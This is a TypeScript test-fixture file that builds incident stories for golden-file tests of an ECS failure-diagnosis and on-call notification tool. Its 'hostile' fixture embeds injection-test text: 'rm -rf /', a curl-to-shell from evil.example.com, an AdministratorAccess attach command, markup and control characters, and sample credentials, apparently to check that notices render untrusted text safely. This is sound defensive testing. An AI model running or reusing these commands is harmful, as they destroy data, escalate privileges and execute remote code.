/** What an on-call meets, one message each: the golden files are these, rendered. */
import type { BuildLogEvidence, NetworkPathEvidence, PathFault, PathHop } from '../../../functions/diagnose/evidence.ts';
import { culpritOf, stepsOf } from '../../../functions/diagnose/probes/build-log/steps.ts';
import type { Diagnosis, Incident, Match, Notice, Step, Where } from '../../../functions/model.ts';
import { noticeOf } from '../../../functions/notify/notice.ts';
import type { Told } from '../../../functions/notify/told.ts';
import { command, commandInAccount } from '../../../functions/shell.ts';
import {
  account,
  aDiagnosis,
  aFailure,
  aMatch,
  aMember,
  anIncident,
  aPlan,
  aRun,
  at,
  aWhere,
  closed,
  common,
  opened,
  seconds,
  strong,
  told,
  watching,
} from '../builders.ts';

/** As the incident's moves write it. */
const overdue = 'It is not over, and the time of the next word has come.';

export interface Story {
  readonly incident: Incident;
  readonly told: Told;
  readonly notice: Notice;
}

const story = (incident: Incident, twist: Partial<Told> = {}): Story => {
  const all = told(incident, twist);
  return { incident, told: all, notice: noticeOf(all) };
};

const orders = aWhere({ name: 'orders' });
const endpointText =
  'CannotPullContainerError: ref pull has been retried 1 time(s): failed to copy: httpReadSeeker: failed open: failed to do request: Get "https://prod-eu-west-1-starport-layer-bucket.s3.eu-west-1.amazonaws.com/1a2b?X-Amz-Security-Token=IQoJb3JpZ2luX2VjEJb&X-Amz-Signature=77aa": dial tcp 3.5.67.8:443: i/o timeout';
const offRoute: PathFault = {
  kind: 'endpoint-off-route',
  culprit: 'rtb-0d5e6f7a8b9c0d1e2',
  says: 'rtb-0d5e6f7a8b9c0d1e2 lost its S3 endpoint: image layers out of reach',
  destinations: ['s3'],
};
const hop = (label: string, says: string, id: string | null = null): PathHop => ({ label, id, says, state: 'ok', broken: null });
const endpointPath: NetworkPathEvidence = {
  vpcId: 'vpc-0a1b2c3d4e5f60718',
  subnetIds: ['subnet-0a11b22c33d44e55f'],
  securityGroupIds: ['sg-0b22c33d44e55f661'],
  hasPublicIp: false,
  configuredBy: 'service',
  exits: [{ subnetId: 'subnet-0a11b22c33d44e55f', routeTableId: offRoute.culprit, via: 'none', gatewayId: null, state: 'broken' }],
  destinations: [],
  faults: [offRoute],
  picture: {
    subnets: [
      {
        subnetId: 'subnet-0a11b22c33d44e55f',
        availabilityZone: 'eu-west-1a',
        routeTableId: offRoute.culprit,
        hops: [
          hop('sg-0b22c33d44e55f661', 'egress 443'),
          hop('acl-0c33d44e55f6677a1', '443 out, answers in'),
          hop('ecr.api', 'available, DNS, 443', 'vpce-0a1c2e3f405162738'),
          hop('ecr.dkr', 'available, DNS, 443', 'vpce-0b2d3f40516273849'),
          { ...hop('s3', 'not on rtb-0d5e6f7a8b9c0d1e2', 'vpce-0f1e2d3c4b5a69788'), state: 'broken', broken: 'NOT ON rtb-0d5e6f7a8b9c0d1e2' },
          hop('logs', 'available, DNS, 443', 'vpce-0c3e405162738495a'),
          { ...hop('0.0.0.0/0', 'no route, no NAT'), state: 'unused' },
        ],
      },
    ],
    note: 'Only image layers need S3; that is why the login still works.',
  },
};
const endpointCommand = command([
  'aws',
  'ec2',
  'modify-vpc-endpoint',
  '--region',
  'eu-west-1',
  '--vpc-endpoint-id',
  'vpce-0f1e2d3c4b5a69788',
  '--add-route-table-ids',
  'rtb-0d5e6f7a8b9c0d1e2',
]);
const endpointStep: Step = {
  says: 'Puts the S3 endpoint back on the table that 3 subnets use; open S3 connections there may drop once.',
  command: endpointCommand,
  undo: endpointCommand.replace('--add-', '--remove-'),
};
const endpoint: Diagnosis = aDiagnosis({
  text: endpointText,
  cause: 'registry-unreachable',
  failure: aFailure({ where: orders, at: at('02:36:40'), text: endpointText }),
  culprit: { id: offRoute.culprit, says: offRoute.says },
  steps: [endpointStep],
  evidence: { 'network-path': endpointPath },
  facts: [
    { says: 'prod/orders runs 3 of 6 tasks.', source: 'api:ecs:DescribeServices' },
    { says: `Out of reach: s3. ${offRoute.says}.`, source: 'api:ec2:DescribeRouteTables' },
  ],
  gaps: [],
  readAt: at('02:36:42'),
});
const endpointTold = { now: new Date(at('02:36:58')) };
const endpointIncident = (twist: Partial<Parameters<typeof anIncident>[0]> = {}): Incident =>
  anIncident({
    id: 'em-2B8D40E6',
    where: orders,
    openedAt: at('02:36:40'),
    remindAt: seconds('02:51:00'),
    diagnosis: endpoint,
    decision: { do: 'tell', because: 'No ecs-medic role may change endpoints, routes or security groups.', steps: [endpointStep] },
    history: [opened('02:36:40')],
    strength: strong(3, 6),
    failedTasks: 5,
    ...twist,
  });

const logGroupCommand = commandInAccount(account, ['aws', 'logs', 'create-log-group', '--region', 'eu-west-1', '--log-group-name', '/ecs/checkout']);
const logGroupUndo = commandInAccount(account, ['aws', 'logs', 'delete-log-group', '--region', 'eu-west-1', '--log-group-name', '/ecs/checkout']);
const logText =
  'ResourceInitializationError: failed to validate logger args: create stream has been retried 1 times: failed to create Cloudwatch log stream: ResourceNotFoundException: The specified log group does not exist. : exit status 1';
const checkout = aWhere({ name: 'checkout' });
const logGroup = aDiagnosis({
  text: logText,
  cause: 'log-group-missing',
  failure: aFailure({ where: checkout, text: logText }),
  culprit: { id: '/ecs/checkout', says: 'Log group /ecs/checkout does not exist in eu-west-1; no revision that ran has used it.' },
  facts: [
    { says: 'No log group of that name in eu-west-1.', source: 'api:logs:DescribeLogGroups' },
    { says: 'checkout:41, which runs, writes to /ecs/checkout-old; checkout:42 names /ecs/checkout.', source: 'api:ecs:DescribeTaskDefinition' },
  ],
  gaps: [],
});
const logGroupPlan = aPlan({
  fix: 'create-log-group',
  says: 'Create log group /ecs/checkout in eu-west-1, kept for 30 days.',
  command: logGroupCommand,
  undo: logGroupUndo,
  risk: 'ask',
  resource: 'arn:aws:logs:eu-west-1:111122223333:log-group:/ecs/checkout',
  hash: 'c0ffee2211',
});

const hubText =
  'CannotPullContainerError: pull image manifest has been retried 5 time(s): failed to resolve ref docker.io/library/nginx:1.27-alpine: failed to copy: 429 Too Many Requests - Server message: toomanyrequests: You have reached your unauthenticated pull rate limit. https://www.docker.com/increase-rate-limit';
const web = aWhere({ name: 'web' });
const hub = aDiagnosis({
  text: hubText,
  cause: 'docker-hub-rate-limit',
  failure: aFailure({ where: web, at: at('02:51:12'), text: hubText }),
  culprit: { id: 'nat-05a6b7c8d9e0f1a2b', says: 'Docker Hub answers 429 to nat-05a6b7c8d9e0f1a2b, which all 12 share.' },
  facts: [
    { says: 'public.ecr.aws/docker/library/nginx:1.27-alpine exists there with the same digest.', source: 'registry:public.ecr.aws' },
    { says: 'Docker Hub still lists nginx:1.27-alpine: the limit is by address, not by image.', source: 'registry:docker.io' },
  ],
  gaps: [{ probe: 'registry-mirror', wanted: 'who else pulls through this NAT gateway', why: 'not-applicable' }],
});
const hubPlan = aPlan({
  says: 'Switch prod/web from nginx:1.27-alpine to public.ecr.aws/docker/library/nginx:1.27-alpine, by a new revision that changes this one image.',
  command: commandInAccount(account, [
    'aws',
    'ecs',
    'update-service',
    '--region',
    'eu-west-1',
    '--cluster',
    'prod',
    '--service',
    'web',
    '--task-definition',
    'web:119',
  ]),
  undo: commandInAccount(account, [
    'aws',
    'ecs',
    'update-service',
    '--region',
    'eu-west-1',
    '--cluster',
    'prod',
    '--service',
    'web',
    '--task-definition',
    'web:118',
  ]),
  risk: 'ask',
  resource: 'arn:aws:ecs:eu-west-1:111122223333:service/prod/web',
});
const hit: readonly (readonly [name: string, running: number, desired: number, image: string])[] = [
  ['web', 0, 6, 'nginx:1.27-alpine'],
  ['search', 0, 2, 'redis:7.4'],
  ['cart', 2, 4, 'nginx:1.27-alpine'],
  ['metrics', 1, 2, 'grafana/grafana:11.2.0'],
  ['mail', 1, 2, 'docker.io/library/python:3.12-slim'],
  ['api', 4, 4, 'nginx:1.27-alpine'],
  ['jobs', 2, 2, 'node:22-alpine'],
  ['admin', 1, 1, 'nginx:1.27-alpine'],
  ['pricing', 3, 3, 'node:22-alpine'],
  ['stock', 2, 2, 'node:22-alpine'],
  ['images', 2, 2, 'h2non/imaginary:1.2.4'],
  ['login', 2, 2, 'node:22-alpine'],
];

const hostileText = [
  'Essential container in task exited\u0000\u001b[31m <!channel> <@U012AB3CD> ```rm -rf /```',
  '\naws iam attach-role-policy --role-name admin --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
  '\n$(curl https://evil.example.com/x.sh | sh); `reboot` && "; DROP',
  '\u202egpj.exe\u202c [click](http://evil.example.com) postgres://app:hunter2@db.internal.example.com/shop',
  ' password=hunter2 AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
].join('');
const longPlace: Where = aWhere({
  cluster: 'production-europe-west-customer-facing',
  name: 'checkout-recommendation-engine-worker-high-priority',
});
const longRole = 'production-checkout-recommendation-engine-task-execution-role';

const unclassified = (text: string, twist: Partial<Diagnosis> = {}): Diagnosis =>
  aDiagnosis({ text, cause: 'unclassified', culprit: null, standing: 'text-only', facts: [], gaps: [], ...twist });

const chinese: Where = aWhere({ region: 'cn-north-1', partition: 'aws-cn', account: '444455556666' });
const governed = (where: Where, twist: Partial<Diagnosis> = {}): Diagnosis => aDiagnosis({ failure: aFailure({ where }), ...twist });

const nightly: Where = aWhere({ kind: 'family', name: 'nightly-invoice', cluster: 'batch' });
const nightlyText = 'Essential container in task exited';

const image: Where = { account, region: 'eu-west-1', partition: 'aws', kind: 'project', name: 'web-image' };
const limitLine = 'toomanyrequests: You have reached your unauthenticated pull rate limit. https://www.docker.com/increase-rate-limit';
const build: BuildLogEvidence = {
  build: 'web-image:8745a7a9-c340-456a-9166-edf953571bea',
  log: 'read',
  images: [
    { image: 'node:22-alpine', before: 'FROM node:22-alpine AS build', after: 'FROM public.ecr.aws/docker/library/node:22-alpine AS build', because: null },
  ],
  environment: null,
};
const limited: Match = { ...aMatch('docker-hub-rate-limit', limitLine), because: { field: 'build.log', text: limitLine } };

export const stories: Readonly<Record<string, () => Story>> = {
  'fix-applied': () => story(watching({ decision: { do: 'act', plan: aPlan() }, remindAt: seconds('03:20:58') })),

  'run-1-command': () => story(endpointIncident(), endpointTold),

  approve: () =>
    story(
      anIncident({
        id: 'em-C4A7719D',
        where: checkout,
        diagnosis: logGroup,
        remindAt: seconds('03:20:51'),
        decision: {
          do: 'hold',
          plan: logGroupPlan,
          guard: 'risk',
          because: "This does more than give back what was there: it needs a person's yes.",
          approvable: true,
        },
        strength: strong(1, 3, 'checkout:41'),
      }),
    ),

  'approve-in-a-storm': () =>
    story(
      anIncident({
        id: 'em-5TQK2M9D',
        seq: 2,
        where: web,
        openedAt: at('02:51:12'),
        diagnosis: hub,
        remindAt: seconds('03:13:00'),
        decision: {
          do: 'hold',
          plan: hubPlan,
          guard: 'risk',
          because: "This does more than give back what was there: it needs a person's yes.",
          approvable: true,
        },
        history: [opened('02:51:12')],
        strength: strong(0, 6),
        failedTasks: 96,
      }),
      {
        now: new Date(at('02:58:03')),
        members: hit.map(([name, , , image]) => aMember(aWhere({ name }), { image, presumed: name === 'login' })),
        strengths: hit.map(([name, running, desired]) => ({ ...strong(running, desired), where: aWhere({ name }) })),
      },
    ),

  resolved: () =>
    story(
      closed('held', {
        diagnosis: aDiagnosis({
          facts: [
            ...aDiagnosis().facts,
            { says: '02:41:07 UTC: DetachRolePolicy by terraform-ci/run-8812.', source: 'api:cloudtrail:LookupEvents' },
            { says: 'The same run detached it from prod-web-exec and prod-jobs-exec, which have not failed yet.', source: 'api:cloudtrail:LookupEvents' },
          ],
        }),
        strength: strong(4, 4),
        lastRun: aRun(),
        proof: '4 tasks of api:42 that were created after the fix (03:05:58) run and pass their health check; the service reached a steady state at 03:09:31.',
        history: [opened(), { at: at('03:05:58'), what: 'applied', says: aPlan().says }, { at: at('03:09:40'), what: 'closed', says: 'the service is steady' }],
      }),
      { now: new Date(at('03:09:41')) },
    ),

  'still-broken-reminder': () =>
    story(
      endpointIncident({
        seq: 2,
        remindAt: seconds('03:51:00'),
        failedTasks: 9,
        said: { at: at('02:36:58'), running: 3, members: 1 },
        history: [opened('02:36:40'), { at: at('02:51:00'), what: 'reminded', says: overdue }],
        diagnosis: {
          ...endpoint,
          facts: [...endpoint.facts, { says: '02:31:44 UTC: ModifyVpcEndpoint by NetAdmin/j.meyer.', source: 'api:cloudtrail:LookupEvents' }],
        },
      }),
      { now: new Date(at('02:51:03')) },
    ),

  'still-broken-fix-did-not-hold': () =>
    story(
      anIncident({
        seq: 2,
        remindAt: seconds('03:26:00'),
        failedTasks: 4,
        lastRun: aRun(),
        decision: {
          do: 'hold',
          plan: aPlan(),
          guard: 'tried',
          because: 'Tried once, last on 22 Nov 03:05 UTC, and it did not hold: not again before 22 Nov 03:20 UTC.',
          approvable: false,
        },
        diagnosis: aDiagnosis({
          culprit: { id: 'prod-api-exec', says: 'Role prod-api-exec is still denied by ECR, with its policy attached.' },
          standing: 'text-only',
          steps: [
            {
              says: "See which of the role's policies denies, and whether its boundary allows ECR.",
              command: 'aws iam get-role --role-name prod-api-exec',
              needs: 'iam:GetRole',
            },
          ],
        }),
        history: [
          opened(),
          { at: at('03:05:58'), what: 'applied', says: aPlan().says },
          { at: at('03:10:14'), what: 'failed-again', says: 'It was applied, and tasks that started later failed all the same.' },
        ],
      }),
      { now: new Date(at('03:10:20')) },
    ),

  'still-broken-unproved': () =>
    story(
      watching({
        seq: 2,
        remindAt: seconds('04:05:58'),
        history: [opened(), { at: at('03:05:58'), what: 'applied', says: aPlan().says }, { at: at('03:20:58'), what: 'reminded', says: overdue }],
      }),
      { now: new Date(at('03:21:00')) },
    ),

  worse: () =>
    story(
      endpointIncident({
        seq: 2,
        strength: strong(0, 6),
        failedTasks: 14,
        remindAt: seconds('03:12:00'),
        said: { at: at('02:36:58'), running: 3, members: 1 },
        history: [opened('02:36:40'), { at: at('02:47:10'), what: 'worse', says: 'Fewer tasks run, or more services are hit.' }],
      }),
      { now: new Date(at('02:47:12')) },
    ),

  'went-away': () =>
    story(
      closed('went-away', {
        id: 'em-2B8D40E6',
        where: orders,
        diagnosis: endpoint,
        decision: { do: 'tell', because: 'No ecs-medic role may change endpoints, routes or security groups.', steps: [endpointStep] },
        openedAt: at('02:36:40'),
        strength: strong(6, 6),
        failedTasks: 7,
        history: [
          opened('02:36:40'),
          { at: at('03:09:40'), what: 'closed', says: 'the service is steady on orders:86, another revision than the one that failed: somebody went back' },
        ],
      }),
      { now: new Date(at('03:09:41')) },
    ),

  look: () =>
    story(
      anIncident({
        id: 'em-9E01B3C8',
        where: aWhere({ name: 'images' }),
        remindAt: seconds('03:20:51'),
        diagnosis: unclassified('CannotStartContainerError: Error response from daemon: the flux capacitor of this host is not calibrated', {
          failure: aFailure({
            where: aWhere({ name: 'images' }),
            text: 'CannotStartContainerError: Error response from daemon: the flux capacitor of this host is not calibrated',
          }),
          match: { ...aMatch('unclassified', ''), because: null },
          facts: [{ says: '2 tasks of images:17 run since 20 Nov; every task of images:18 has failed.', source: 'api:ecs:DescribeServices' }],
        }),
        decision: { do: 'tell', because: 'The cause is not known, so nothing of mine cures it.', steps: [] },
        strength: strong(2, 3, 'images:17'),
      }),
    ),

  'observe-mode': () =>
    story(
      anIncident({
        remindAt: seconds('03:20:51'),
        decision: { do: 'hold', plan: aPlan(), guard: 'mode', because: 'Observe mode: I would have applied this.', approvable: false },
      }),
    ),

  'full-strength': () =>
    story(
      anIncident({
        where: checkout,
        diagnosis: logGroup,
        remindAt: seconds('03:05:51', '2026-11-23'),
        decision: {
          do: 'hold',
          plan: logGroupPlan,
          guard: 'risk',
          because: "This does more than give back what was there: it needs a person's yes, and Approvers is empty: the command is for you to run.",
          approvable: false,
        },
        strength: strong(3, 3, 'checkout:41'),
      }),
    ),

  build: () =>
    story(
      anIncident({
        id: 'em-B91C03D7',
        where: image,
        diagnosis: aDiagnosis({
          cause: 'docker-hub-rate-limit',
          match: limited,
          failure: { where: image, at: at('03:05:51'), texts: [{ field: 'build.log', text: limitLine }] },
          culprit: { id: 'web-image', says: culpritOf(build, limited) },
          evidence: { 'build-log': build },
          facts: [
            { says: `The log of build ${build.build} says so, within the first command that failed.`, source: 'api:logs:GetLogEvents' },
            { says: 'node:22-alpine is kept there too, as public.ecr.aws/docker/library/node:22-alpine.', source: 'registry:public.ecr.aws' },
          ],
          gaps: [],
        }),
        decision: { do: 'tell', because: 'No role of ecs-medic may make this change.', steps: stepsOf(build, limited) },
      }),
    ),

  'standalone-task': () =>
    story(
      anIncident({
        id: 'em-77D0A5E1',
        where: nightly,
        diagnosis: unclassified(nightlyText, {
          failure: aFailure({ where: nightly, text: nightlyText, stopCode: 'EssentialContainerExited' }),
          match: aMatch('application-exit', nightlyText),
          cause: 'application-exit',
          standing: 'confirmed',
          culprit: { id: 'nightly-invoice', says: 'Container app of nightly-invoice:42 exited with code 3.' },
          facts: [{ says: 'Container app, essential, ended by itself with code 3 after 41 s.', source: 'api:ecs:DescribeTasks' }],
        }),
        decision: {
          do: 'tell',
          because: 'It ended by itself: the cure lies in the application.',
          steps: [{ says: 'Nothing starts this task again: once it is cured, start it again as it was started.', needs: 'ecs:RunTask', afterwards: true }],
        },
        failedTasks: 1,
      }),
      { strengths: [] },
    ),

  hostile: () =>
    story(
      anIncident({
        where: longPlace,
        remindAt: seconds('03:20:51'),
        diagnosis: unclassified(hostileText, {
          failure: aFailure({ where: longPlace, text: hostileText }),
          culprit: { id: longRole, says: `Role ${longRole} could not pull from ECR: its policy was detached by somebody with a very long story.` },
        }),
        decision: { do: 'tell', because: 'I know no change of mine that would cure this.', steps: [] },
        strength: strong(10, 12, 'checkout-recommendation-engine-worker-high-priority:1041'),
      }),
      { settings: { accountName: 'Größte Handelsplattform — Produktion, Europa' } },
    ),

  'aws-cn': () =>
    story({
      ...common({
        where: chinese,
        remindAt: seconds('03:20:58'),
        diagnosis: governed(chinese, { standing: 'text-only', facts: [], culprit: null }),
        decision: {
          do: 'hold',
          plan: aPlan({
            command: commandInAccount('444455556666', [
              'aws',
              'iam',
              'attach-role-policy',
              '--role-name',
              'prod-api-exec',
              '--policy-arn',
              'arn:aws-cn:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy',
            ]),
            undo: commandInAccount('444455556666', [
              'aws',
              'iam',
              'detach-role-policy',
              '--role-name',
              'prod-api-exec',
              '--policy-arn',
              'arn:aws-cn:iam::aws:policy/service-role/AmazonECSTaskExecutionRolePolicy',
            ]),
          }),
          guard: 'evidence',
          because: 'I could not see policies of role prod-api-exec (denied), and the proof rests on it: grant iam:ListRolePolicies.',
          approvable: false,
        },
      }),
      state: 'open',
    }),
};
